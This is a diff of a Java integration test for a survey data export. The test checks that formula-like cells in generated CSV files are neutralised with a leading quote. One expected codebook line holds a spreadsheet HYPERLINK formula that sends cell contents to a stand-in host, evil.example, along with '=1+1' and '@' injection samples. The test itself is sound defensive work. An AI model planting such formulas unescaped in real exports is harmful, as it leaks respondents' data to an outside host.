@@ -52,7 +52,7 @@ import static org.assertj.core.api.Assertions.assertThat;
  */
 class FormulaCellsIT {
 
-    private static final String STUDY = "study-formulas";
+    private static final String STUDY = "f0f0f0f0-1234-4abc-9def-0123456789ab";
     private static final String TOPIC = "haven.survey.events.formula-cells";
     private static final Actor RESEARCHER = Actor.researcher("dr.morgan");
     private static final Map<String, String> KEY = Map.of("HAVEN_EXPORT_KEY", "formula-cells-it-export-key");
@@ -152,7 +152,7 @@ class FormulaCellsIT {
         List<String> codebook = Files.readAllLines(folder.resolve("codebook.csv"));
         assertThat(codebook.get(1)).isEqualTo("'=1+1,'@calm,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,"
                 + "\"\"Click\"\")\",0,-3,3,'-3=@strongly disagree|-2=disagree|-1=somewhat disagree|0=neutral|"
-                + "1=somewhat agree|2=agree|3=strongly agree,1");
+                + "1=somewhat agree|2=agree|3=strongly agree,1,,");
         assertThat(Files.readAllLines(folder.resolve("responses_wide.csv")).get(0))
                 .isEqualTo("pid,wave,'=1+1,calm_2,trust_1,trust_2,trust_3");
         assertThat(Files.readAllLines(folder.resolve("responses_long.csv")))
